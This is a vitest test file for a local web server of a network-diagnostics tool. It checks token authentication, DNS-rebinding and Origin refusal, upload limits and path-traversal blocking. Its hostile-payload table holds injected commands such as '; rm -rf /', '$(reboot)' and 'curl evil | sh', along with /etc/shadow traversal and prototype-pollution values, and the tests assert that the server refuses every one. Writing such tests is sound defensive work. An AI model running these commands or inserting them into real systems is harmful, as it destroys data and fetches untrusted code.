import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { request } from 'node:http';
import { brotliDecompressSync } from 'node:zlib';
import { createDispatcher } from '../shared-server/dispatch';
import { ProgressBus } from '../shared-server/progress';
import { callsTotal, spyBackend, type SpyBackend } from '../shared-server/fake-backend.testutil';
import { startWebServer, type WebServer } from './server';
import { raw } from './test-client.testutil';

const TOKEN = 'tok_' + 'x'.repeat(39);
let backend: SpyBackend;
let server: WebServer;
let progress: ProgressBus;
let staticDir: string;

const auth = { Authorization: `Bearer ${TOKEN}` };
const json = { ...auth, 'Content-Type': 'application/json' };
const post = (path: string, body: string, headers: Record<string, string> = json) =>
  raw(server.port, { method: 'POST', path, headers, body });

beforeAll(async () => {
  staticDir = mkdtempSync(join(tmpdir(), 'cni-doctor-static-'));
  writeFileSync(join(staticDir, 'index.html'), '<!doctype html><title>t</title>');
  progress = new ProgressBus();
  // The dispatcher reads `backend` through this indirection so each test gets fresh spies.
  const proxy = new Proxy({} as SpyBackend, { get: (_t, k) => backend[k as keyof SpyBackend] });
  server = await startWebServer({
    dispatcher: createDispatcher({ backend: proxy }),
    progress,
    token: TOKEN,
    staticDir,
  });
});
afterAll(async () => {
  await server.close();
  rmSync(staticDir, { recursive: true, force: true });
});
beforeEach(() => {
  backend = spyBackend();
});

function noCors(headers: Record<string, unknown>): void {
  expect(Object.keys(headers).filter((h) => h.toLowerCase().startsWith('access-control-'))).toEqual(
    [],
  );
  expect(headers['set-cookie']).toBeUndefined();
}

describe('serve: authentication', () => {
  it('listens on 127.0.0.1 and prints a URL with a fresh 32-byte token in the fragment', async () => {
    const s = await startWebServer({
      dispatcher: createDispatcher({ backend: spyBackend() }),
      progress: new ProgressBus(),
    });
    try {
      expect(s.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#token=[A-Za-z0-9_-]{43}$/);
      expect(Buffer.from(s.token, 'base64url')).toHaveLength(32);
    } finally {
      await s.close();
    }
  });

  it('answers 401 without a token or with a wrong one, and the engine is not called', async () => {
    const none = await post('/api/info', '{}', { 'Content-Type': 'application/json' });
    const wrong = await post('/api/scan', '{"source":"live"}', {
      Authorization: `Bearer ${TOKEN.slice(0, -1)}y`,
      'Content-Type': 'application/json',
    });
    const basic = await post('/api/scan', '{"source":"live"}', {
      Authorization: `Basic ${TOKEN}`,
      'Content-Type': 'application/json',
    });
    const events = await raw(server.port, { path: '/api/events' });
    for (const r of [none, wrong, basic, events]) {
      expect(r.status).toBe(401);
      noCors(r.headers);
    }
    expect(callsTotal(backend)).toBe(0);
  });

  it('a token in a cookie or the query string does not count', async () => {
    const r = await raw(server.port, {
      method: 'POST',
      path: `/api/info?token=${TOKEN}`,
      headers: { Cookie: `token=${TOKEN}`, 'Content-Type': 'application/json' },
      body: '{}',
    });
    expect(r.status).toBe(401);
  });

  it('answers 200 with the token', async () => {
    const r = await post('/api/info', '{}');
    expect(r.status).toBe(200);
    expect(JSON.parse(r.body)).toMatchObject({ ok: true, result: { door: 'web' } });
    expect(backend.info).toHaveBeenCalledOnce();
    noCors(r.headers);
  });
});

describe('serve: origin checks', () => {
  it('refuses a foreign Host with 403 even with the token (DNS rebinding)', async () => {
    for (const host of [
      `evil.example:${server.port}`,
      `127.0.0.1.nip.io:${server.port}`,
      '127.0.0.1',
      `127.0.0.1:${server.port + 1}`,
    ]) {
      const r = await raw(server.port, {
        method: 'POST',
        path: '/api/info',
        headers: { ...json, Host: host },
        body: '{}',
      });
      expect(r.status, host).toBe(403);
    }
    const page = await raw(server.port, {
      path: '/',
      headers: { Host: `evil.example:${server.port}` },
    });
    expect(page.status).toBe(403);
    expect(callsTotal(backend)).toBe(0);
  });

  it('accepts localhost:PORT as Host', async () => {
    const r = await raw(server.port, {
      method: 'POST',
      path: '/api/info',
      headers: { ...json, Host: `localhost:${server.port}` },
      body: '{}',
    });
    expect(r.status).toBe(200);
  });

  it('refuses a foreign Origin with 403, and sends no CORS headers, also to a preflight', async () => {
    for (const origin of ['https://evil.example', 'null', `http://127.0.0.1:${server.port + 1}`]) {
      const r = await raw(server.port, {
        method: 'POST',
        path: '/api/scan',
        headers: { ...json, Origin: origin },
        body: '{"source":"live"}',
      });
      expect(r.status, origin).toBe(403);
      noCors(r.headers);
    }
    const pre = await raw(server.port, {
      method: 'OPTIONS',
      path: '/api/scan',
      headers: { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' },
    });
    expect(pre.status).toBe(403);
    noCors(pre.headers);
    const own = await raw(server.port, {
      method: 'POST',
      path: '/api/info',
      headers: { ...json, Origin: `http://127.0.0.1:${server.port}` },
      body: '{}',
    });
    expect(own.status).toBe(200);
    expect(callsTotal(backend)).toBe(1);
  });

  it('refuses cross-site fetch metadata', async () => {
    const r = await raw(server.port, {
      method: 'POST',
      path: '/api/info',
      headers: { ...json, 'Sec-Fetch-Site': 'cross-site' },
      body: '{}',
    });
    expect(r.status).toBe(403);
  });
});

describe('serve: hostile payloads are refused before the engine sees them', () => {
  const hostile: [string, string][] = [
    ['/api/scan', '{"source":"demo","demoId":"../../etc/passwd"}'],
    ['/api/scan', '{"source":"bundle","bundleId":"; rm -rf /"}'],
    ['/api/scan', '{"source":"bundle","bundleId":"/etc/shadow"}'],
    ['/api/scan', '{"source":"live","path":"/etc"}'],
    ['/api/scan', '{"source":"root","root":"/"}'],
    ['/api/scan', '{"source":"demo","demoId":42}'],
    ['/api/scan', '[]'],
    ['/api/scan', 'null'],
    ['/api/preview-repair', '{"repairId":"../../etc/passwd"}'],
    ['/api/preview-repair', '{"repairId":"; rm -rf /"}'],
    ['/api/preview-repair', '{"repairId":"$(reboot)"}'],
    ['/api/preview-repair', '{"repairId":"cni.conf.none:x && curl evil | sh"}'],
    ['/api/preview-repair', '{"repairId":["cni.conf.none"]}'],
    ['/api/preview-repair', '{"repairId":""}'],
    ['/api/preview-repair', `{"repairId":"${'a'.repeat(300)}"}`],
    ['/api/apply-repair', '{"repairId":"cni.conf.none:enable","previewToken":"../../x"}'],
    ['/api/apply-repair', '{"repairId":"cni.conf.none:enable"}'],
    [
      '/api/apply-repair',
      '{"repairId":"cni.conf.none:enable","previewToken":"abcdefgh","command":"rm -rf /"}',
    ],
    ['/api/undo', '{"entryId":"..\\\\..\\\\Windows\\\\System32"}'],
    ['/api/undo', '{"entryId":{"toString":"x"}}'],
    ['/api/inventory', '{"scanId":"../../../proc/self/environ"}'],
    ['/api/inventory', '{"scanId":"s-0123456789abcdef","tab":"cni","offset":-5}'],
    ['/api/inventory', '{"scanId":"s-0123456789abcdef","tab":"cni","sort":{"column":"1"}}'],
    ['/api/hns-object', '{"scanId":"s-0123456789abcdef","kind":"endpoint","id":"a/b"}'],
    ['/api/info', '{"unexpected":true}'],
    ['/api/scan', '{"__proto__":{"polluted":true},"source":"live"}'],
    ['/api/scan', '{"source":"live","constructor":{"prototype":{"polluted":true}}}'],
    ['/api/preview-repair', '{"repairId":"x","prototype":{}}'],
    ['/api/scan', '{"source":'],
    ['/api/scan', '{"source":"live"} trailing'],
  ];

  it.each(hostile)('%s %s → 400', async (path, body) => {
    const r = await post(path, body);
    expect(r.status).toBe(400);
    expect(JSON.parse(r.body)).toMatchObject({ ok: false, error: { code: 'bad-request' } });
    expect(callsTotal(backend)).toBe(0);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses a body that is not application/json (a cross-site form cannot send JSON)', async () => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const r = await post('/api/scan', '{"source":"live"}', { ...auth, 'Content-Type': type });
      expect(r.status, type).toBe(400);
    }
    expect(callsTotal(backend)).toBe(0);
  });

  it('refuses huge JSON bodies (413) without reading them into the engine', async () => {
    const big = JSON.stringify({ source: 'live', pad: 'x'.repeat(64 * 1024) });
    const r = await post('/api/scan', big);
    expect(r.status).toBe(413);
    expect(callsTotal(backend)).toBe(0);
  });

  it('refuses an upload whose declared size passes the cap', async () => {
    const r = await raw(server.port, {
      method: 'POST',
      path: '/api/open-bundle',
      headers: {
        ...auth,
        'Content-Type': 'application/gzip',
        'X-Bundle-Name': 'x.tar.gz',
        'Content-Length': String(1024 * 1024 * 1024),
      },
      body: Buffer.alloc(16),
    }).catch(() => ({ status: 413 }));
    expect(r.status).toBe(413);
    expect(callsTotal(backend)).toBe(0);
  });

  it('refuses an upload named like a path, an empty one, or the wrong type', async () => {
    const up = (name: string, body: Buffer, type = 'application/gzip') =>
      raw(server.port, {
        method: 'POST',
        path: '/api/open-bundle',
        headers: { ...auth, 'Content-Type': type, 'X-Bundle-Name': encodeURIComponent(name) },
        body,
      });
    expect((await up('../../etc/passwd', Buffer.from([31, 139]))).status).toBe(400);
    expect((await up('C:\\Windows\\win.ini', Buffer.from([31, 139]))).status).toBe(400);
    expect((await up('ok.tar.gz', Buffer.alloc(0))).status).toBe(400);
    expect((await up('ok.tar.gz', Buffer.from('{}'), 'application/json')).status).toBe(400);
    expect(callsTotal(backend)).toBe(0);
    expect((await up('node.tar.gz', Buffer.from([31, 139, 8]))).status).toBe(200);
    expect(backend.openBundle).toHaveBeenCalledOnce();
    expect(backend.openBundle.mock.calls[0]?.[0]).toMatchObject({
      kind: 'upload',
      fileName: 'node.tar.gz',
    });
  });

  it('only the listed routes and methods exist', async () => {
    expect((await post('/api/run-command', '{"cmd":"id"}')).status).toBe(404);
    expect(
      (await raw(server.port, { method: 'GET', path: '/api/scan', headers: auth })).status,
    ).toBe(400);
    expect((await raw(server.port, { method: 'PUT', path: '/', headers: {} })).status).toBe(405);
    expect(callsTotal(backend)).toBe(0);
  });
});

describe('serve: static files and streams', () => {
  it('serves the renderer with a strict CSP and nothing outside it', async () => {
    const r = await raw(server.port, { path: '/' });
    expect(r.status).toBe(200);
    expect(r.headers['content-security-policy']).toContain("script-src 'self'");
    expect(r.headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    noCors(r.headers);
    for (const p of [
      '/../../etc/passwd',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/..%2f..%2fetc%2fpasswd',
      '/.env',
      '/index.html%00.js',
      '/x.sh',
    ]) {
      expect((await raw(server.port, { path: p })).status, p).toBe(404);
    }
  });

  it('streams progress events to a token holder', async () => {
    const { request } = await import('node:http');
    const got = await new Promise<string>((resolve, reject) => {
      const req = request(
        {
          host: '127.0.0.1',
          port: server.port,
          path: '/api/events',
          headers: { ...auth, Host: `127.0.0.1:${server.port}` },
        },
        (res) => {
          expect(res.headers['content-type']).toContain('text/event-stream');
          let text = '';
          res.on('data', (c: Buffer) => {
            text += c.toString();
            if (text.includes('"step":"cni"')) {
              req.destroy();
              resolve(text);
            }
          });
          setTimeout(
            () => progress.emit({ kind: 'scan', jobId: 'j-1', step: 'cni', done: false }),
            50,
          );
        },
      );
      req.on('error', reject);
      req.end();
    });
    expect(got).toContain('event: progress');
  });

  it('exports a bundle as an attachment', async () => {
    const r = await post('/api/export-bundle', '{}');
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('application/gzip');
    expect(r.headers['content-disposition']).toBe('attachment; filename="node.tar.gz"');
  });
});

describe('serve: compressed Inventory answers', () => {
  const brRequest = (path: string, body: string) =>
    new Promise<{ headers: Record<string, unknown>; body: Buffer }>((resolve, reject) => {
      const req = request(
        {
          host: '127.0.0.1',
          port: server.port,
          method: 'POST',
          path,
          headers: { ...json, Host: `127.0.0.1:${server.port}`, 'Accept-Encoding': 'br, gzip' },
        },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => resolve({ headers: res.headers, body: Buffer.concat(chunks) }));
        },
      );
      req.on('error', reject);
      req.end(body);
    });

  const page = (scanId: string, rows: string[][]) => ({
    scanId,
    tab: 'hns-endpoints' as const,
    tables: [
      {
        title: 'HNS endpoints',
        columns: [{ label: 'ID', width: '1fr' }],
        total: rows.length,
      },
    ],
    table: 0,
    matched: rows.length,
    offset: 0,
    rows,
  });

  it('sends Inventory windows brotli-compressed', async () => {
    const rows = Array.from({ length: 1000 }, (_, i) => [`ep-${i}`, 'Attached', '10.0.0.1']);
    backend.inventory.mockImplementation(async ({ scanId }) => page(scanId, rows));
    const body = '{"scanId":"s-0123456789abcdef","tab":"hns-endpoints","offset":0,"limit":1000}';
    const first = await brRequest('/api/inventory', body);
    expect(first.headers['content-encoding']).toBe('br');
    expect(first.headers['vary']).toBe('Accept-Encoding');
    const decoded = JSON.parse(brotliDecompressSync(first.body).toString('utf8'));
    expect(decoded.ok).toBe(true);
    expect(decoded.result.rows).toHaveLength(1000);
    expect(first.body.length).toBeLessThan(JSON.stringify(decoded).length / 5);
    expect(backend.inventory).toHaveBeenCalledWith({
      scanId: 's-0123456789abcdef',
      tab: 'hns-endpoints',
      offset: 0,
      limit: 1000,
    });
  });

  it('answers plain JSON to a client that accepts no encoding', async () => {
    backend.inventory.mockImplementation(async ({ scanId }) => page(scanId, [['x'.repeat(5000)]]));
    const r = await post('/api/inventory', '{"scanId":"s-1123456789abcdef","tab":"pipes"}');
    expect(r.status).toBe(200);
    expect(r.headers['content-encoding']).toBeUndefined();
    expect(JSON.parse(r.body).result.rows[0][0]).toHaveLength(5000);
  });
});
